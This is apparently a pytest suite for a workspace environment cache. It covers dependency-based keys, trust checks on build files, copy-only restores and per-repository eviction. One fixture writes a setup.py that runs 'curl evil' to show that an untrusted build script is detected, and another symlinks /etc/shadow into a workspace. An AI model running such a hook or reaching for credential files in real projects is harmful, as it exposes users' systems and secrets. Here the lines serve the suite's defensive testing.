"""Kept environments on real git and real files: what setup made is found without reading the
worktree's ignore rules, the key follows the dependency files, trust follows the build files,
a restore never overwrites what the commit tracks, and each repository stays within its bound,
least recently used out first."""

from __future__ import annotations

import os

import pytest

from jobs.workspace.config import parse_config
from jobs.workspace.environments import (
    DEFAULT_KEY_FILES,
    EnvironmentStore,
    environment_key,
    matching,
    products,
    untrusted_files,
)
from tests.test_workspace_pool import origin  # noqa: F401  (a fixture)

MIB = 1024**2


def test_patterns_match_names_anywhere_or_whole_paths():
    paths = ["requirements.txt", "requirements-dev.txt", "api/requirements.txt", "src/a.py",
             "web/package-lock.json", "deps/pinned.lock", "other/pinned.lock"]
    assert matching(paths, DEFAULT_KEY_FILES) == [
        "api/requirements.txt", "requirements-dev.txt", "requirements.txt", "web/package-lock.json"]
    assert matching(paths, ["deps/*.lock"]) == ["deps/pinned.lock"]


@pytest.mark.parametrize(("raw", "patterns"), [
    (b"setup: [make]\n", DEFAULT_KEY_FILES),
    (b"setup: [make]\nsetup_key: [deps/*.lock]\n", (*DEFAULT_KEY_FILES, "deps/*.lock")),
    (b"setup: [make]\nsetup_key: {paths: [deps/*.lock], defaults: false}\n", ("deps/*.lock",)),
])
def test_setup_key_adds_or_replaces_the_default_files(raw, patterns):
    assert parse_config(raw).setup_key.patterns() == patterns


def test_the_key_follows_the_dependency_files_and_the_commands_not_the_rest(origin):
    (origin.seed / "requirements.txt").write_text("probe==1\n")
    first = origin.commit("deps")
    (origin.seed / "a.txt").write_text("changed\n")
    second = origin.commit("code")
    (origin.seed / "requirements.txt").write_text("probe==2\n")
    third = origin.commit("bump")
    mirror = origin.mirror()

    def key(revision: str, setup=("pip install -r requirements.txt",), toolchain="t1") -> str:
        return environment_key(mirror, revision, list(setup), DEFAULT_KEY_FILES, toolchain)

    assert key(first) == key(second)
    assert key(third) != key(second)
    assert key(first, setup=("pip install -e .",)) != key(first)
    assert key(first, toolchain="t2") != key(first)


def test_setup_is_trusted_only_when_the_dependency_and_build_files_are_the_bases(origin):
    (origin.seed / "requirements.txt").write_text("probe==1\n")
    base = origin.commit("deps")
    (origin.seed / "a.txt").write_text("code only\n")
    code = origin.commit("code")
    (origin.seed / "setup.py").write_text("import os; os.system('curl evil')\n")
    build = origin.commit("a build script")
    mirror = origin.mirror()
    assert untrusted_files(mirror, base, code, DEFAULT_KEY_FILES) == []
    assert untrusted_files(mirror, base, build, DEFAULT_KEY_FILES) == ["setup.py"]


def test_products_are_what_the_commit_does_not_track_found_without_the_ignore_rules(origin):
    workspace = origin.borrow("r1")
    path = workspace.path
    (path / ".venv" / "lib").mkdir(parents=True)
    (path / ".venv" / "lib" / "probe.py").write_text("x = 1\n")
    (path / "pkg" / "d.egg-info").mkdir()
    (path / "pkg" / "d.egg-info" / "PKG-INFO").write_text("Name: d\n")
    (path / "debug.log").write_text("ignored by .gitignore, still made by setup\n")
    (path / "a.txt").write_text("a tracked file changed: not a product\n")
    os.symlink("/etc/shadow", path / "link")
    assert products(workspace.view) == [".venv", "debug.log", "link", "pkg/d.egg-info"]


def test_a_restore_copies_never_links_and_never_overwrites_a_tracked_file(origin, tmp_path):
    workspace = origin.borrow("r1")
    (workspace.path / ".venv").mkdir()
    (workspace.path / ".venv" / "probe").write_text("original\n")
    (workspace.path / "b.txt").write_text("made by setup over a tracked file\n")
    store = EnvironmentStore(origin.data_dir, 42, 10 * MIB)
    assert store.keep("k1", workspace.path, [".venv", "b.txt"]).kept
    later = tmp_path / "later"
    later.mkdir()
    (later / "b.txt").write_text("the commit's\n")
    assert store.restore("k1", later) == [".venv"]
    assert (later / "b.txt").read_text() == "the commit's\n"
    kept = store.root / "k1" / "tree" / ".venv" / "probe"
    assert os.stat(later / ".venv" / "probe").st_ino != os.stat(kept).st_ino
    with open(later / ".venv" / "probe", "r+") as handle:  # in place
        handle.write("tampered")
    assert kept.read_text() == "original\n"
    assert store.restore("missing", later) is None


def test_each_repository_keeps_within_its_bound_least_recently_used_out_first(origin, tmp_path):
    source = tmp_path / "made"
    source.mkdir()
    (source / "blob").write_bytes(os.urandom(2 * MIB))
    store = EnvironmentStore(origin.data_dir, 7, 5 * MIB)  # room for two
    other = EnvironmentStore(origin.data_dir, 8, 5 * MIB)
    assert store.keep("old", source, ["blob"]).kept
    assert other.keep("old", source, ["blob"]).kept
    assert store.keep("used", source, ["blob"]).kept
    os.utime(store.root / "old" / "environment.json", (1, 1))
    os.utime(store.root / "used" / "environment.json", (2, 2))
    into = tmp_path / "into"
    into.mkdir()
    assert store.restore("old", into) == ["blob"]  # now the most recently used
    assert store.keep("new", source, ["blob"]).kept  # three do not fit: "used" goes
    assert sorted(p.name for p in store.root.iterdir()) == ["new", "old"]
    assert (other.root / "old").is_dir()  # another repository's bound is its own
    small = EnvironmentStore(origin.data_dir, 9, 1 * MIB)
    refused = small.keep("k", source, ["blob"])
    assert not refused.kept and "larger" in refused.why and not (small.root / "k").exists()


def test_an_environment_that_cannot_be_copied_is_not_kept_and_says_why(origin, tmp_path):
    store = EnvironmentStore(origin.data_dir, 7, 5 * MIB)
    refused = store.keep("k", tmp_path, ["gone-before-the-copy"])
    assert not refused.kept and "could not be copied" in refused.why
    assert "gone-before-the-copy" in refused.why and not (store.root / "k").exists()
    assert [p.name for p in store.root.iterdir()] == []  # no scratch folder left behind
